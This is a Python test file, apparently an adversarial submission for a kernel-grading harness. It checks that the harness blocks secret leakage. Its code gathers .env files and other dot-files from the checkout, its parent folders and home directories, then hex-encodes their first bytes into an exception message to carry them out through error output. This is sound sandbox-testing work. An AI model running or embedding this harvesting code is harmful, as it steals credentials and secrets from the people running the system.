"""Tries: read the checkout's .env files (beside the harness it imports), those of every folder above
its own and its working folder, and the dot-files of every home folder, and send them out
hex-encoded in its failure reason: the table, the exports, the database and kernelbot's popcorn pipe
(`test.N.error`) all carry a reason.
Must get: rejected with a reason that reads "nothing to send": no byte of any planted file reaches
any output, export or popcorn line."""
import glob
import os

import harness


def readable():
    """.env files first (the checkout's, then those of every folder above its own and its working
    folder), then the other dot-files of those folders and of every home folder."""
    checkout = os.path.dirname(os.path.dirname(os.path.abspath(harness.__file__)))
    folders = [checkout]
    for start in (os.path.dirname(os.path.abspath(__file__)), os.getcwd()):
        while True:
            folders.append(start)
            if start == os.path.dirname(start):
                break
            start = os.path.dirname(start)
    folders += [os.path.expanduser("~"), "/root", *glob.glob("/home/*")]
    paths = [p for f in folders for p in sorted(glob.glob(os.path.join(f, ".env*")))]
    paths += [p for f in folders for p in sorted(glob.glob(os.path.join(f, ".*")))]
    found = {}
    for path in dict.fromkeys(paths):
        try:
            with open(path, "rb") as f:
                content = f.read(48)
        except OSError:
            continue
        if content:
            found[path] = content
    return found


def custom_kernel(data):
    found = readable()
    if not found:
        raise ValueError("nothing to send")
    raise ValueError("sent: " + " ".join(f"{os.path.basename(p)}={v.hex()}" for p, v in found.items()))
